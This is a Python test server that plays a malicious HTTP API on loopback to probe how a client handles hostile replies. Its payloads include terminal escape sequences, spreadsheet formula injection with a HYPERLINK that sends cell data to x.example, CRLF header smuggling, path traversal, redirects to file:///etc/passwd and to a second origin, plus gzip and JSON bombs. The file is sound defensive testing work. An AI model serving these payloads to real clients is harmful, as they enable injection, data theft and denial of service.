#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""A service that means harm, on a free port of loopback: hostile_server.py WAY PORT_FILE LOG

Every request is logged as a line of JSON (method, path, headers, body's length) before it is answered in the WAY that
is asked for. Raw sockets, for most of what it says no HTTP library would let out.
"""
import base64
import json
import os
import socket
import sys
import threading
import time
import zlib

# What a terminal would obey, hide or turn round: OSC 52, CSI, BEL, C1, DEL, bidirectional and zero-width marks.
EVIL = '\x1b]52;c;cHduZWQ=\x07\x1b[2J\x1b]0;owned\x07\u009b31m\x7f\u202eevil\u2066\u200b\r\n\x08'
JOB = 'job-1'
WAY, PORT_FILE, LOG = sys.argv[1:4]


def answer(status, body, *headers):
    if not isinstance(body, bytes):
        body = (body if isinstance(body, str) else json.dumps(body)).encode()
    head = ['HTTP/1.1 %d %s' % (status, 'Way'), 'Content-Type: application/json', 'Content-Length: %d' % len(body)]
    return '\r\n'.join(head + list(headers) + ['', '']).encode() + body


def created(job=JOB):
    return answer(200, {'_data': {'id': job}})


def counts(**by_status):
    return answer(200, {'_data': {'id': JOB}, '_meta': {'bjEntryCompletionStatusVsCount': by_status}})


def entries(items, **more):
    return answer(200, dict({'_data': items}, **more))


def entry(key, words='no', status='INVALID', process='p-1'):
    return {'completionStatus': status, 'data': {'lead_id': key}, 'errors': [{'message': words}], 'processId': process}


def kind_of(method, path):
    if path.endswith('/bulk-create'):
        return 'create'
    if '/entries' in path:
        return 'entries'
    if '/background-job/' in path:
        return 'job'
    if path.endswith('/process/list'):
        return 'list'
    return 'config' if path.endswith('/config') else 'other'


def gzip_bomb():
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = squeeze.compress(b'[' * 20000000) + squeeze.flush()
    return answer(200, body, 'Content-Encoding: gzip')


ALL = ('create', 'job', 'list', 'config')
# Each way: kind of request -> answer. What is not said is answered decently.
DECENT = {'create': created(), 'job': counts(SUCCESS=3), 'entries': entries([]), 'list': answer(200, {'_data': []}),
          'config': answer(200, {'_data': {'procedures': []}}), 'other': answer(404, {})}
OTHER_ORIGIN = 'http://127.0.0.1:%s/steal'
WAYS = {
    'decent': {},
    'words': {'create': answer(400, {'_errors': [{'message': EVIL, EVIL: EVIL}]})},
    'page': {'create': answer(502, '<html><title>%s</title>%s</html>' % (EVIL, EVIL)),
             'list': answer(502, EVIL), 'config': answer(502, EVIL)},
    'entries': {'job': counts(INVALID=2, SUCCESS=1),
                'entries': entries([entry('L-1', EVIL, process=EVIL), entry('L-2', EVIL), entry(EVIL)])},
    'formulas': {'create': created('=job-1'),
                 'job': answer(200, {'_data': {'id': '=job-1'},
                                     '_meta': {'bjEntryCompletionStatusVsCount': {'INVALID': 2, 'SUCCESS': 1}}}),
                 'entries': entries([entry('=A1', '=HYPERLINK("http://x.example?"&A1,"see")', process='@p'),
                                     entry('+B2', '\t=1+1', process='=p'), entry('L-3', status='SUCCESS',
                                                                                process='-2+3+A1')])},
    'statuses': {'job': counts(**{EVIL: 3})},
    'config': {'config': answer(200, {'_data': {'procedures': [
        {'id': EVIL, 'shortId': EVIL, 'name': EVIL, 'attributes': [{'id': EVIL, 'type': EVIL}],
         'states': [{'id': EVIL}]}]}})},
    'location': {k: answer(302, '', 'Location: https://x.example/' + EVIL.replace('\r\n', ''))
                 for k in ('create', 'list', 'config')},
    'id-lines': {'create': created('j\r\nX-Evil: 1\r\n\r\nGET /steal')},
    'id-path': {'create': created('../../v1/ext/team/delete?x=1#y')},
    'id-host': {'create': created('//127.0.0.1:1/steal')},
    'id-huge': {'create': created('j' * 200000)},
    'id-evil': {'create': created(EVIL)},
    'next-loop': {'job': counts(INVALID=3), 'entries': lambda n: entries(
        [entry('X-%d' % n)], next='/v1/ext/background-job/job-1/entries?p=%d' % (n % 2))},
    'next-forever': {'job': counts(INVALID=3), 'entries': lambda n: entries(
        [], next='/v1/ext/background-job/job-1/entries?p=%d' % n)},
    'more-forever': {'create': answer(500, {}), 'list': lambda n: answer(
        200, {'_data': [{'id': 'p%d' % n, 'lead_id': 'other'}], '_meta': {'hasMore': True}})},
    'many': {'job': counts(INVALID=3), 'entries': lambda n: entries([{'completionStatus': 'INVALID'}] * 120000)},
    'ten-million': {'job': counts(INVALID=10000000), 'entries': lambda n: entries([entry('L-1')] * 10)},
    'negative': {'job': counts(SUCCESS=-3, INVALID=-1)},
    'strings': {'job': counts(SUCCESS='3')},
    'words-as-counts': {'job': counts(SUCCESS='three', ERROR=[], INVALID={})},
    'huge-counts': {'job': counts(SUCCESS=1e300, ERROR=2 ** 64, INVALID=2 ** 63)},
    'floats': {'job': counts(SUCCESS=2.5, ERROR=0.5)},
    'deep': {k: lambda n: answer(200, '[' * 900000 + ']' * 900000) for k in ALL},
    'deep-object': {k: lambda n: answer(200, '{"_data":' * 300000 + '1' + '}' * 300000) for k in ALL},
    'numbers': {k: lambda n: answer(200, '{"_data":[' + '0,' * 2000000 + '0]}') for k in ALL},
    'large': {k: lambda n: answer(200, '{"_data":"' + 'x' * 60000000 + '"}') for k in ALL},
    'gzip': {k: lambda n: gzip_bomb() for k in ALL},
    'cookies': {'create': answer(200, {'_data': {'id': JOB}}, 'Set-Cookie: session=evil; Path=/')},
}


def endless_headers(send):
    send(b'HTTP/1.1 200 OK\r\n')
    while True:
        send(b'X-More: ' + b'x' * 1000 + b'\r\n')


def one_long_header(send):
    send(b'HTTP/1.1 200 OK\r\nX-Long: ')
    while True:
        send(b'x' * 65536)


def drip(send):
    send(b'HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n{"a":"')
    while True:
        send(b'x')
        time.sleep(0.02)


def interim(send):
    while True:
        send(b'HTTP/1.1 100 Continue\r\n\r\n' * 100)


def chunks(send):
    send(b'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n')
    while True:
        send(b'1000\r\n' + b'[' * 4096 + b'\r\n')


RAW = {'endless-headers': endless_headers, 'long-header': one_long_header, 'drip': drip, 'interim': interim,
       'chunks': chunks}


def redirect(status, target):
    return {k: answer(status, '', 'Location: ' + target) for k in ('create', 'list', 'config', 'job')}


# The token in spellings that other programs undo.
ECHOES = {
    'echo-json': lambda t: ''.join('\\u%04x' % ord(c) for c in t),
    'echo-twice': lambda t: ''.join('\\\\u%04x' % ord(c) for c in t),
    'echo-percent': lambda t: ''.join('%%%02X' % ord(c) for c in t),
    'echo-base64': lambda t: base64.encodebytes(b'Bearer ' + t.encode()).decode().replace('\n', '\\n'),
    'echo-url64': lambda t: base64.urlsafe_b64encode(b'x' + t.encode()).decode(),
}


class Server:
    def __init__(self):
        self.listener = socket.create_server(('127.0.0.1', 0))
        self.other = socket.create_server(('127.0.0.1', 0))  # nobody may ever come here
        self.log = open(LOG, 'a', buffering=1)
        self.count = {}
        other = OTHER_ORIGIN % self.other.getsockname()[1]
        WAYS['next-other'] = {'job': counts(INVALID=3), 'entries': entries([entry('L-1')], next=other)}
        WAYS['next-file'] = {'job': counts(INVALID=3), 'entries': entries([entry('L-1')], next='file:///etc/passwd')}
        WAYS['next-slashes'] = {'job': counts(INVALID=3), 'entries': entries(
            [entry('L-1')], next=other.replace('http:', ''))}
        WAYS['next-user'] = {'job': counts(INVALID=3), 'entries': entries(
            [entry('L-1')], next='http://127.0.0.1:%d@%s' % (
                self.listener.getsockname()[1], other.replace('http://', '')))}
        for status in (301, 302, 303, 307, 308):
            WAYS['redirect-%d' % status] = redirect(status, other)
        WAYS['redirect-file'] = redirect(302, 'file:///etc/passwd')
        threading.Thread(target=self.watch_other, daemon=True).start()

    def write(self, **what):
        self.log.write(json.dumps(what) + '\n')

    def watch_other(self):
        while True:
            self.other.accept()
            self.write(method='STOLEN', path='another origin was connected to')

    def answer_to(self, method, path, token):
        kind = kind_of(method, path)
        if WAY in ECHOES and kind == 'create':
            return answer(422, '{"_errors":[{"message":"you sent %s here"}]}' % ECHOES[WAY](token))
        made = ({} if WAY in ECHOES else WAYS[WAY]).get(kind, DECENT[kind])
        self.count[kind] = self.count.get(kind, 0) + 1
        return made(self.count[kind]) if callable(made) else made

    def serve(self, connection):
        data = b''
        try:
            while True:
                while b'\r\n\r\n' not in data:
                    more = connection.recv(65536)
                    if not more:
                        return
                    data += more
                head, _, data = data.partition(b'\r\n\r\n')
                lines = head.decode('latin-1').split('\r\n')
                method, path, _ = lines[0].split(' ', 2)
                headers = dict(line.split(': ', 1) for line in lines[1:])
                length = int(headers.get('Content-Length', 0))
                while len(data) < length:
                    data += connection.recv(1 << 20)
                data = data[length:]
                token = headers.get('Authorization', '')[7:]
                headers['Authorization'] = headers.get('Authorization', '')[:7]
                self.write(method=method, path=path, headers=headers, length=length)
                if WAY in RAW:
                    RAW[WAY](connection.sendall)
                connection.sendall(self.answer_to(method, path, token))
        except (OSError, ValueError):
            pass
        finally:
            connection.close()

    def run(self):
        with open(PORT_FILE + '.new', 'w') as f:
            f.write(str(self.listener.getsockname()[1]))
        os.rename(PORT_FILE + '.new', PORT_FILE)
        while True:
            connection, _ = self.listener.accept()
            threading.Thread(target=self.serve, args=(connection,), daemon=True).start()


Server().run()
